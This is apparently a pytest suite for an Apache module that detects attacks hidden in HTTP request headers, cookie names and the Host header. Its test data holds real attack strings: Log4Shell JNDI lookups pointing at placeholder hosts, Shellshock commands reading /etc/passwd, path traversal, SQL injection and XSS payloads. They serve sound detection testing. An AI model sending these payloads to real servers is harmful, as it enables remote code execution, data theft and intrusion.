"""Every request header inspected, against a real httpd: attacks in any
header (recorded with the header's name; a script URL in Origin or
Content-Location, standard headers whose value is a URL), realistic browser / client / CDN
header blocks that never flag (header_blocks.py), cookie names read as a
parameter's name is, LogWatchInspectHeader none / -NAME, the bound on the
number of headers, and what httpd refuses while reading the request (414,
400)."""
import time

import pytest

import header_blocks
import lwhttpd


@pytest.fixture
def mpm():
    # Which headers are read does not depend on the MPM: one is enough.
    return "event"


def attacks(h):
    return [r for r in h.records() if lwhttpd.is_attack(r)]


def send(h, target, headers):
    return h.request("GET %s HTTP/1.1" % target,
                     [("Host", "localhost")] + list(headers))[0]


def settle(h, n):
    """The attack records once n are there and nothing more comes."""
    h.wait_records(n, pred=lwhttpd.is_attack)
    time.sleep(0.3)
    return attacks(h)


# (header, value, a rule id it must get): payloads an attack suite or an
# attacker puts in any header, standard ones included.
HEADER_ATTACKS = [
    ("Accept", "../../../../etc/passwd", 300120),
    ("X-Foo", "..%2f..%2f..%2fetc%2fshadow", 300120),
    ("Authorization", "Basic ../../../../windows/win.ini", 300110),
    ("X-Api-Version", "${jndi:ldap://203.0.113.5:1389/a}", 500110),
    ("X-Forwarded-For", "${${lower:j}ndi:${lower:l}dap://x.example/a}",
     500110),
    ("User-Id", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.5/a}", 500110),
    ("If-None-Match", "${jndi:dns://x.example/a}", 500110),
    ("X-Client-Version", "${jn${lower:d}i:ldap://203.0.113.5/a}", 500115),
    ("Accept-Language", "() { :; }; /bin/bash -c 'id'", 500100),
    ("X-Custom-Trace", "() { _; } >_[$($())] { echo; cat /etc/passwd; }",
     500100),
    ("X-Forwarded-For", "1' AND SLEEP(5)-- -", 100160),
    ("X-Real-IP", "127.0.0.1' or 1=1-- -", 100120),
    ("Client-IP", "1.2.3.4' union select null,version()--", 100100),
    ("X-Forwarded-Host", "x\"><svg onload=alert(1)>", 200910),
    ("X-Original-URL", "/admin/<script>alert(document.domain)</script>",
     200100),
    # standard headers whose value is a URL: read by the xss family too
    ("Origin", "javascript:alert(document.domain)", 200910),
    ("Content-Location", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
     200910),
]


def test_attacks_in_any_header_and_benign_blocks(httpd_factory):
    h = httpd_factory()
    for i, block in enumerate(header_blocks.BLOCKS):
        assert send(h, "/b/%d" % i, block) is not None
    for i, (name, value, _rid) in enumerate(HEADER_ATTACKS):
        send(h, "/a/%d" % i, [("User-Agent", header_blocks.CHROME_UA),
                              ("Accept", "*/*"), (name, value)])
    recs = settle(h, len(HEADER_ATTACKS))
    # no benign block flags, and each attack is one record
    assert [r["uri"] for r in recs] == \
        ["/a/%d" % i for i in range(len(HEADER_ATTACKS))], \
        [(r["uri"], r["rules"]) for r in recs if r["uri"].startswith("/b/")]
    for rec, (name, value, rid) in zip(recs, HEADER_ATTACKS):
        lwhttpd.check_record(rec)
        hits = [x for x in rec["rules"] if x["id"] == rid]
        assert hits, (name, value, rec["rules"])
        assert hits[0]["field"] == "header:" + name, (name, hits[0])
        # the header's value is written escaped, never raw
        assert all(x["field"] == "header:" + name for x in rec["rules"]), \
            rec["rules"]


def test_cookie_names(httpd_factory):
    """A cookie's NAME goes through the detectors a parameter name does."""
    h = httpd_factory()
    cases = [("benchmark(10000000,md5(1))", 100900, "sql:"),
             ("x|id", 500900, "sh:"),
             ("top[8680439..toString(30)](1)", 200900, "js:")]
    for i, (name, _rid, _why) in enumerate(cases):
        send(h, "/c/%d" % i, [("Cookie", "sid=0f3a9c; %s=1; theme=dark"
                                         % name)])
    # the names of real sites' cookies never flag (header_blocks has more)
    send(h, "/c/ok", [("Cookie", "__Host-next-auth.csrf-token=a%7Cb; "
                                 "_ga_R2D2C3PO42=GS1.1.1; wp-settings-time-1"
                                 "=1733540400; AMCV_97F1%40AdobeOrg=1")])
    recs = settle(h, len(cases))
    assert [r["uri"] for r in recs] == ["/c/%d" % i for i in range(len(cases))]
    for rec, (name, rid, why) in zip(recs, cases):
        hits = [x for x in rec["rules"] if x["id"] == rid]
        assert hits and hits[0]["field"] == "cookie_names", (name, rec["rules"])
        assert hits[0]["detail"].startswith(why), hits[0]


def test_inspect_header_none_and_minus(httpd_factory):
    """none: only User-Agent, Referer, Cookie and the named headers;
    -NAME: that header never; NAME: inspected whatever the rest says."""
    jndi = "${jndi:ldap://203.0.113.5/a}"
    h = httpd_factory(extra="LogWatchInspectHeader none X-Api-Version\n")
    send(h, "/n/1", [("X-Other", jndi), ("Accept", "../../../etc/passwd")])
    send(h, "/n/2", [("X-Api-Version", jndi)])
    send(h, "/n/3", [("User-Agent", jndi)])
    recs = settle(h, 2)
    assert [r["uri"] for r in recs] == ["/n/2", "/n/3"], recs
    h.stop()

    h = httpd_factory(extra="LogWatchInspectHeader -X-Debug-Blob\n")
    send(h, "/m/1", [("X-Debug-Blob", jndi)])
    send(h, "/m/2", [("X-Debug-Other", jndi)])
    recs = settle(h, 1)
    assert [r["uri"] for r in recs] == ["/m/2"], recs
    assert any(x["field"] == "header:X-Debug-Other" for x in recs[0]["rules"])
    h.stop()

    # a virtual host's -NAME and NAME undo the main server's NAME, -NAME
    h = httpd_factory(extra="LogWatchInspectHeader X-Blob -X-Skip\n",
                      vhost_extra={"domain1.com": "    LogWatchInspectHeader "
                                                  "-X-Blob X-Skip\n"})
    for i, (host, name) in enumerate([("localhost", "X-Blob"),
                                      ("localhost", "X-Skip"),
                                      ("domain1.com", "X-Blob"),
                                      ("domain1.com", "X-Skip")]):
        h.request("GET /v/%d HTTP/1.1" % i, [("Host", host), (name, jndi)])
    recs = settle(h, 2)
    assert [r["uri"] for r in recs] == ["/v/0", "/v/3"], recs


@pytest.mark.parametrize("bad,says", [
    ("LogWatchInspectHeader -User-Agent", "always inspected"),
    ("LogWatchInspectHeader -Cookie", "always inspected"),
    ("LogWatchInspectHeader none -X-A", "nothing to leave out"),
    ("LogWatchInspectHeader -X-A\nLogWatchInspectHeader none",
     "nothing to leave out"),
    ("LogWatchInspectHeader X-A -x-a", "both inspected and left out"),
    ("LogWatchInspectHeader X:A", "bad header name"),
    ("LogWatchInspectHeader -", "bad header name"),
    ("LogWatchInspectHeader X-A\xe9", "bad header name"),
])
def test_inspect_header_errors(httpd_factory, bad, says):
    h = httpd_factory(start=False, extra=bad + "\n")
    p = h.configtest()
    assert p.returncode != 0, bad
    assert says in p.stderr + p.stdout, (bad, p.stderr)


def test_header_count_bound(httpd_factory):
    """Past LOGWATCH_MAX_HEADERS (64) other headers the rest are not read:
    the request gets the evasion signal instead of a clean verdict; 60
    headers are read, all of them."""
    h = httpd_factory()
    many = [("X-Pad-%d" % i, "v%d" % i) for i in range(70)]
    assert send(h, "/many", many + [("X-Last", "ok")]) == 404
    few = [("X-Pad-%d" % i, "v%d" % i) for i in range(60)]
    send(h, "/few", few + [("X-Last", "${jndi:ldap://x.example/a}")])
    send(h, "/fewok", few)
    recs = settle(h, 2)
    assert [r["uri"] for r in recs] == ["/many", "/few"], recs
    ev = [x for x in recs[0]["rules"] if x["id"] == 800000]
    assert ev and ev[0]["field"] == "headers", recs[0]["rules"]
    assert any(x["id"] == 500110 and x["field"] == "header:X-Last"
               for x in recs[1]["rules"]), recs[1]["rules"]


def test_refused_while_reading(httpd_factory):
    """httpd refuses: 414 (request-target over LimitRequestLine: the_request
    keeps its start), 400 (a header over LimitRequestFieldSize: the header
    is dropped; a malformed header line). What httpd kept is classified;
    a 414 is itself one medium protocol record; a giant benign cookie is
    no record."""
    h = httpd_factory()
    pad = "A" * 9000
    assert send(h, "/item.php?id=1%27%20union%20select%20password%20from"
                "%20users--&pad=" + pad, []) == 414
    assert send(h, "/search?q=" + pad, []) == 414
    assert send(h, "/giant-cookie", [("Cookie", "big=" + "B" * 9000)]) == 400
    assert send(h, "/x.php?q=%3Cscript%3Ealert(1)%3C/script%3E",
                [("X-Pad", "C" * 9000)]) == 400
    assert h.request("GET /y.php?f=../../../../etc/passwd HTTP/1.1",
                     [("Host", "localhost"), ("Bad Name", "x")])[0] == 400
    recs = settle(h, 4)
    assert len(recs) == 4, [r["uri"][:40] for r in recs]
    padded, benign, xss, lfi = recs
    for r in recs:
        assert r["verdict"] == "rejected", r
    assert padded["uri"].startswith("/item.php?id=1%27%20union")
    assert "sqli" in padded["categories"]
    assert any(x["id"] == 800001 for x in padded["rules"])
    # the long benign target: the cut alone, medium, protocol
    assert benign["uri"].startswith("/search?q=AAAA")
    assert [x["id"] for x in benign["rules"]] == [800001], benign["rules"]
    assert benign["severity"] == "medium" and \
        benign["categories"] == ["protocol"], benign
    assert xss["uri"].startswith("/x.php") and "xss" in xss["categories"]
    assert lfi["uri"].startswith("/y.php") and "lfi" in lfi["categories"]


def test_host_outside_its_grammar(httpd_factory):
    """A Host keeps to names, addresses and a port, and is read by the
    families any header gets (traversal, Shellshock ...); one with another
    byte was not written by a client: httpd answers 400, and the module
    reads it as a header of the client's own, SQL and XSS included."""
    h = httpd_factory()
    benign = ["localhost", "LocalHost:8080", "[::1]:8443", "10.0.0.7",
              "build_01.internal:3000", "xn--bcher-kva.example"]
    for i, host in enumerate(benign):
        h.request("GET /h/ok%d HTTP/1.1" % i, [("Host", host)])
    evil = [("shop.example:443' OR 2>1 OR 'q'='q", "sqli"),
            ("10.0.0.7) AND (SELECT 4 FROM pg_sleep(3)) IS NULL AND (5=5",
             "sqli"),
            ("shop.example\"><img src=x onerror=alert(7)>", "xss")]
    for i, (host, _cat) in enumerate(evil):
        st, _ = h.request("GET /h/bad%d HTTP/1.1" % i, [("Host", host)])
        assert st == 400, (host, st)
    recs = settle(h, len(evil))
    assert [r["uri"] for r in recs] == \
        ["/h/bad%d" % i for i in range(len(evil))], \
        [(r["uri"], r["rules"]) for r in recs]
    for rec, (host, cat) in zip(recs, evil):
        lwhttpd.check_record(rec)
        assert rec["verdict"] == "rejected", rec
        hits = [x for x in rec["rules"] if x["category"] == cat]
        assert hits and all(x["field"] == "header:Host" for x in hits), \
            (host, rec["rules"])
